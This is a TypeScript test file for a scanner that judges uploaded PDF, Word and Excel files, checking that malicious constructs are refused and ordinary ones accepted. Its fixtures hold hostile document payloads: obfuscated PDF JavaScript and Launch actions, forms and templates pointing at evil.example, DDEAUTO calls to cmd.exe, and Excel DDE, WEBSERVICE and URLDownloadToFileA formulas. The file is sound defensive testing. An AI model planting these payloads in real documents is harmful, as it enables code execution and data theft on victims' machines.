import { deflateRawSync, deflateSync } from "node:zlib";
import * as fc from "@truefill/testkit/properties";
import { describe, expect, it } from "vitest";
import { compound, doc, record, xls } from "../../../http/testing-compound.ts";
import { docx, docxOf, pdf, pdfStream, sheet, xlsx, type ZipEntry } from "../../../http/testing-files.ts";
import { judge } from "./index.ts";

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";
const text = (name: string, content: string | Buffer): ZipEntry => ({ name, data: Buffer.from(content) });
/** Object number 9 and its value, in an object stream. */
const objects = (object: string, dictionary = "/Filter /FlateDecode", packed?: Buffer) =>
	pdfStream(`/Type /ObjStm /N 1 /First 4 ${dictionary}`, `9 0 ${object}`, packed);
const REFUSED_AT_OPENING = "/OpenAction 9 0 R";

describe("PDF", () => {
	it.each([
		["a script", pdf(`/OpenAction ${SCRIPT}`)],
		["a script in letters of another kind", pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")],
		["a script with every letter so", pdf("", `<< /S /${hexed("JavaScript")} >>`)],
		["a script in a packed stream", pdf(REFUSED_AT_OPENING, objects(SCRIPT))],
		["a script in such letters in one", pdf("", objects("<< /S /J#61vaScript >>"))],
		["a form that sends in a packed stream", pdf("", objects("<< /S /SubmitForm /F (https://evil.example) >>"))],
		["a stream of objects that does not say so", pdf("", pdfStream("/Filter /FlateDecode", `9 0 ${SCRIPT}`))],
		["one whose sum is wrong", pdf("", pdfStream("/Filter /Fl", "", wrongSum(`9 0 ${SCRIPT}`)))],
		["one with the word for its end inside", pdf("", objects("", "/Filter /FlateDecode", endInside(`9 0 ${SCRIPT}`)))],
		["objects packed in an unusual way", pdf("", objects("null", "/Filter /LZWDecode", Buffer.from("x")))],
		["objects packed twice", pdf("", objects("null", "/Filter [/FlateDecode /FlateDecode]"))],
		["objects packed as another object says", pdf("", objects("null", "/Filter 5 0 R"))],
		["objects that are not packed", pdf("", objects(SCRIPT, "", Buffer.from(`9 0 ${SCRIPT}`)))],
		["an action when a page opens, not packed", pdf("", "<< /Type /Page /AA << /O 9 0 R >> >>")],
		["an action when a page opens, packed", pdf("", objects("<< /Type /Page /AA << /O 9 0 R >> >>"))],
		["an address that opens by itself", pdf("/OpenAction << /S /URI /URI (https://evil.example) >>")],
		["one by another object", pdf("/OpenAction 4 0 R", "<< /S /URI /URI (https://evil.example) >>")],
		["one by a packed object", pdf(REFUSED_AT_OPENING, objects("<< /S /URI /URI (https://evil.example) >>"))],
		["one after a page of its own", pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >>")],
		["one of an earlier revision", pdf("/OpenAction 4 0 R", "[3 0 R /Fit]\nendobj\n4 0 obj\n<< /S /URI >>")],
		["an opening that is nowhere", pdf(REFUSED_AT_OPENING)],
		["a program", pdf("", "<< /S /Launch /F (cmd.exe) >>")],
		["a form that sends", pdf("", "<< /S /SubmitForm >>")],
		["a form that takes data in", pdf("", "<< /S /ImportData >>")],
		["another file", pdf("", "<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>")],
		["another file inside", pdf("", "<< /S /GoToE >>")],
		["a file", pdf("", "<< /Type /EmbeddedFile >>")],
		["a film", pdf("", "<< /Subtype /RichMedia >>")],
		["a form of XML", pdf("/AcroForm << /XFA 4 0 R >>", "<< >>")],
		["an archive behind it", Buffer.concat([pdf(), docx(), Buffer.from("\n%%EOF")])],
		["a bomb", pdf("", pdfStream("/Filter /FlateDecode", "", deflateSync(Buffer.alloc(20 * 1024 * 1024))))],
	])("with %s is refused", async (_what, data) => {
		expect(await judge(data, "pdf")).toBe("FILE_UNSAFE");
	});

	it.each([
		["a page", pdf()],
		["a page to begin with", pdf("/OpenAction [3 0 R /Fit]")],
		["a page to begin with by an action", pdf("/OpenAction 4 0 R", "<< /S /GoTo /D [3 0 R /Fit] >>")],
		["one that is packed", pdf(REFUSED_AT_OPENING, objects("<< /S /GoTo /D [3 0 R /Fit] >>"))],
		["links to click", pdf("", "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>")],
		["packed objects", pdf("", objects("<< /Type /Font /BaseFont /Helvetica >>"))],
		["words of its text", pdf("", pdfStream("/Filter /FlateDecode", "BT (AA JS Launch) Tj ET"))],
		["a large picture", pdf("", pdfStream("/Subtype /Image /Filter /FlateDecode", "x".repeat(20_000_000)))],
	])("with %s is taken", async (_what, data) => {
		expect(await judge(data, "pdf")).toBe(null);
	});

	it("says what else is wrong", async () => {
		const locked = "trailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard /V 1 >> >>\n%%EOF\n";
		expect(await judge(Buffer.concat([pdf(), Buffer.from(locked)]), "pdf")).toBe("FILE_PROTECTED");
		expect(await judge(Buffer.from("%PDF-1.4\nnothing\n%%EOF"), "pdf")).toBe("FILE_DAMAGED");
	});
});

const link = (type: string, target: string, mode = 'TargetMode="External"') =>
	`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`;
const linked = (type: string, target: string, mode?: string) =>
	docx(text("word/_rels/document.xml.rels", link(type, target, mode)));
const typed = (type: string) =>
	`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/a.xml" ContentType="${type}"/></Types>`;
const MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml";
const run = (instruction: string) => `<w:r><w:instrText>${instruction}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (...runs: readonly string[]) => `<w:p>${mark("begin")}${runs.join("")}${mark("end")}</w:p>`;
const formula = (f: string) => xlsx(sheet(`<row><c r="A1"><f>${f}</f><v>1</v></c></row>`));

describe("Word and Excel", () => {
	it.each([
		["a template of somebody else", linked("attachedTemplate", "https://evil.example/t.dotm")],
		["one on a network's disk", linked("attachedTemplate", "file://evil.example/share/t.dotm")],
		["one on a network's disk by its other name", linked("attachedTemplate", "\\\\evil\\share\\t.dotm")],
		[
			"a template in UTF-16",
			docx(text("word/_rels/settings.xml.rels", utf16(link("attachedTemplate", "http://e.example")))),
		],
		["a picture from elsewhere", linked("image", "https://evil.example/1.png")],
		["an object from elsewhere", linked("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example")],
		["mhtml in a link", linked("hyperlink", "mhtml:https://evil.example")],
		["mhtml as if it were inside", linked("image", "mhtml:https://evil.example", "")],
		["a script in a link", linked("hyperlink", "java&#10;script:alert(1)")],
		["a link to a network's disk", linked("hyperlink", "\\\\evil\\share")],
		["a chunk of another kind", linked("aFChunk", "a.xml", "")],
		["macros by the way they are joined", linked("vbaProject", "harmless.xml", "")],
		["macros by their type", docxTypes(typed(MACROS))],
		["macros by their type in UTF-16", docxTypes(utf16(typed(MACROS)))],
		["macros by their type in UTF-16 the other way round", docxTypes(Buffer.from(utf16(typed(MACROS))).swap16())],
		["an encoding that hides", docxTypes(typed(MACROS).replace('"1.0"', '"1.0" encoding="UTF-7"'))],
		["entities", docx(text("word/a.xml", '<!DOCTYPE a [<!ENTITY b "b">]><a/>'))],
		["a shortcut", docx(text("word/embeddings/a.lnk", "L"))],
		["an installer", docx(text("word/media/a.msi", "x"))],
		["a document with macros", docx(text("word/a.docm", "PK"))],
		["a document in a document", docx(text("word/embeddings/a.xlsx", xlsx()))],
		["a document that says it is a picture", docx(text("word/media/a.png", doc()))],
		["a program that says it is a picture", docx(text("word/media/a.png", "MZ\x90"))],
		["DDE", docxOf(field(run(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))],
		["DDE in pieces", docxOf(field(run(" DD"), run("E"), run("AUTO c:\\\\cmd.exe")))],
		["DDE that is put together", docxOf(field(field(run(" QUOTE 68 68 69")), run(" c:\\\\cmd.exe")))],
		["a kind that another field tells", docxOf(field(field(run(" REF a")), run(" c:\\\\cmd.exe")))],
		["DDE that is never closed", docxOf(`<w:p>${mark("begin")}${run("DDE cmd")}</w:p>`)],
		["DDE in one element", docxOf('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>')],
		["a text from elsewhere", docxOf(field(run(' INCLUDETEXT "https://evil.example"')))],
		["a picture's field", docxOf(field(run(' INCLUDEPICTURE "https://evil.example"')))],
		["a field in a footer", docx(text("word/footer1.xml", `<w:ftr xmlns:w="w">${field(run("DDE cmd"))}</w:ftr>`))],
	])("a .docx with %s is refused", async (_what, data) => {
		expect(await judge(data, "docx")).toBe("FILE_UNSAFE");
	});

	it.each([
		["DDE", formula("cmd|'/c calc'!A0")],
		["DDE behind a sum", formula("1+cmd|' /c calc'!A0")],
		["a function that fetches", formula("_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)")],
		["a function that calls", formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)")],
		["a link to another file", xlsx(text("xl/externalLinks/externalLink1.xml", "<externalLink/>"))],
		["a link to a program", xlsx(text("xl/a.xml", "<a><ddeLink/></a>"))],
		["a macro sheet", xlsx(text("xl/macrosheets/sheet1.xml", "<a/>"))],
		["a query", xlsx(text("xl/connections.xml", "<connections/>"))],
		[
			"a name for a macro",
			xlsx(text("xl/a.xml", '<a><definedName name="_xlnm.Auto_Open" xlm="1">A1</definedName></a>')),
		],
	])("an .xlsx with %s is refused", async (_what, data) => {
		expect(await judge(data, "xlsx")).toBe("FILE_UNSAFE");
	});

	it("what people write is taken", async () => {
		const page = docxOf(
			`${field(run(" PAGE "))}${field(run(' HYPERLINK "https://example.com/a/link"'), mark("separate"))}<w:p><w:r><w:t>DDE is a word</w:t></w:r></w:p>`,
			text("word/media/a.svg", "<svg/>"),
		);
		expect(await judge(page, "docx")).toBe(null);
		expect(await judge(linked("hyperlink", "https://example.com/?a=b"), "docx")).toBe(null);
		expect(await judge(linked("attachedTemplate", "file:///C:\\Users\\me\\Templates\\Letter.dotx"), "docx")).toBe(null);
		expect(await judge(docxTypes(utf16(typed("application/xml"))), "docx")).toBe(null);
		for (const harmless of ["SUM(A1:A9)", "'A|B'!A1", "&quot;a|b!c&quot;", "IF(A1&lt;2,&quot;CALL(&quot;,3)"]) {
			expect(await judge(formula(harmless), "xlsx"), harmless).toBe(null);
		}
		expect(await judge(xlsx(text("xl/printerSettings/printerSettings1.bin", "x")), "xlsx")).toBe(null);
	});
});

describe("the old Word and Excel", () => {
	it.each([
		["macros", doc({ more: { "Macros/VBA/dir": Buffer.from("x") } })],
		["an object", doc({ more: { "ObjectPool/_1/\u0001Ole10Native": Buffer.from("x") } })],
		["an object's data", doc({ more: { "ObjectPool/_1/Data": Buffer.from("x") } })],
		["an object of another name", doc({ more: { Payload: Buffer.from("x") } })],
		["a template of somebody else", doc({ template: "https://evil.example/t.dot" })],
		["a template on a network's disk", doc({ template: "\\\\evil\\t.dot" })],
		["DDE", doc({ pieces: ["\x13 DDEAUTO c:\\cmd.exe \x14x\x15"] })],
		["DDE in pieces", doc({ pieces: ["\x13 DD", "EAU", "TO c:\\cmd.exe \x14x\x15"] })],
		["a link to a file", doc({ pieces: ["a", "\x13 LINK Excel.Sheet.8 \\\\evil\\a.xls\x14\x15"] })],
		["a picture from elsewhere", doc({ pieces: ["\x13INCLUDEPICTURE https://evil.example\x14\x15"] })],
		["a format that nobody reads", doc({ version: 0x65 })],
	])("a .doc with %s is refused", async (_what, data) => {
		expect(await judge(data, "doc")).toBe("FILE_UNSAFE");
	});

	it.each([
		["macros", xls({}, { "_VBA_PROJECT_CUR/VBA/dir": Buffer.from("x") })],
		["a project of macros", xls({ book: [record(0x00d3)] })],
		["a macro sheet", xls({ kind: 1 })],
		["a macro sheet that says it is a sheet", xls({ sheet: [record(0x0809, 0, 6, 0x40, 0)] })],
		["an object", xls({}, { "MBD0001/\u0001Ole": Buffer.from("x") })],
		["controls", xls({}, { Ctls: Buffer.from("x") })],
		["a link to another file", xls({ book: [record(0x01ae, 1, 0, 5, 0, 0, ...Buffer.from("a.xls"))] })],
		["a query", xls({ sheet: [record(0x01ad, 0, 0)] })],
		["the format of Excel 95 beside it", xls({}, { Book: Buffer.from("x") })],
		["the format of Excel 95", compound({ Book: Buffer.from("x") })],
	])("an .xls with %s is refused", async (_what, data) => {
		expect(await judge(data, "xls")).toBe("FILE_UNSAFE");
	});

	it("what people write is taken", async () => {
		const letter = doc({
			pieces: ["Page \x13 PAGE \x141\x15 and ", "Zürich\r"],
			template: "C:\\Templates\\Normal.dot",
		});
		expect(await judge(letter, "doc")).toBe(null);
		expect(await judge(xls({ book: [record(0x01ae, 1, 0, 1, 4)] }), "xls")).toBe(null);
		expect(await judge(xls(), "doc")).toBe("FILE_TYPE_DIFFERS");
		expect(await judge(doc(), "xls")).toBe("FILE_TYPE_DIFFERS");
		expect(await judge(doc({ flags: 0x0100 }), "doc")).toBe("FILE_PROTECTED");
		expect(await judge(xls({ book: [record(0x002f, 0, 0)] }), "xls")).toBe("FILE_PROTECTED");
		expect(await judge(compound({ EncryptedPackage: Buffer.from("x"), EncryptionInfo: Buffer.from("x") }), "doc")).toBe(
			"FILE_PROTECTED",
		);
		expect(await judge(doc().subarray(0, 600), "doc")).toBe("FILE_DAMAGED");
	});
});

it("whatever it is, an answer and never an exception", async () => {
	const kinds = fc.constantFrom(
		...([
			["pdf", pdf(REFUSED_AT_OPENING, objects("[3 0 R /Fit]"))],
			["docx", docxOf(field(run(" PAGE ")))],
			["xlsx", formula("SUM(A1:A9)")],
			["doc", doc({ pieces: ["a \x13 PAGE \x141\x15", "b"] })],
			["xls", xls({ book: [record(0x01ae, 1, 0, 1, 4)] })],
		] as const),
	);
	const changes = fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 12 });
	await fc.assert(
		fc.asyncProperty(kinds, changes, fc.nat(), async ([kind, seed], changed, cut) => {
			const data = Buffer.from(seed.subarray(0, cut % 3 === 0 ? cut % seed.length : seed.length));
			for (const [at, value] of changed) if (data.length > 0) data[at % data.length] = value;
			expect([null, "FILE_TYPE_DIFFERS", "FILE_DAMAGED", "FILE_UNSAFE", "FILE_PROTECTED"]).toContain(
				await judge(data, kind),
			);
		}),
		{ numRuns: 300 },
	);
});

function hexed(name: string): string {
	return [...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join("");
}

function wrongSum(content: string): Buffer {
	const packed = deflateSync(Buffer.from(content));
	return Buffer.concat([packed.subarray(0, -4), Buffer.from("oops")]);
}

/** Flate whose first block is stored and contains `endstream`; the hidden content follows it. */
function endInside(content: string): Buffer {
	const word = Buffer.from("endstream ");
	const stored = Buffer.alloc(5);
	stored.writeUInt16LE(word.length, 1);
	stored.writeUInt16LE(0xffff - word.length, 3);
	return Buffer.concat([
		Buffer.from([0x78, 0x9c]),
		stored,
		word,
		deflateRawSync(Buffer.from(content)),
		Buffer.alloc(4),
	]);
}

function utf16(content: string): Buffer {
	return Buffer.from(`\ufeff${content.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, "utf16le");
}

/** Replaces the document's content types by these. */
function docxTypes(types: string | Buffer): Buffer {
	return docxOf("<w:body/>", text("[Content_Types].xml", types));
}
